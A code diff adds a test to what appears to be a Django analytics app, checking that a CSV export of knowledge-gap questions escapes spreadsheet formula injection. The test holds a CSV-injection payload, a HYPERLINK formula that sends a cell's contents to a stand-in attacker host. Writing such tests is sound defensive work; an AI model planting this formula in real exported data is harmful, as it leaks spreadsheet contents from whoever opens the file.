@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import importlib
 import re
 from datetime import timedelta
@@ -283,3 +284,14 @@ def test_a_group_asked_in_both_languages_is_named_in_the_managers(client, mia, l
 
     assert cells == [named, "3", " ".join(similar)]
     assert page.context["charts"]["per_group"]["labels"] == [named]
+
+
+def test_a_question_typed_as_a_formula_is_text_in_the_managers_spreadsheet(client, mia):
+    """CSV injection: Excel runs a cell starting with = + - @ as a formula when the file is opened."""
+    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+    knowledge_gap_record(question=attack, language="en")
+    client.force_login(mia)
+
+    rows = list(csv.reader(client.get("/analytics/gaps/?format=csv").content.decode("utf-8-sig").splitlines()))
+    assert rows[1][0] == "'" + attack and rows[1][5] == "'" + attack
+    assert rows[1][1] == "1"  # numbers stay numbers
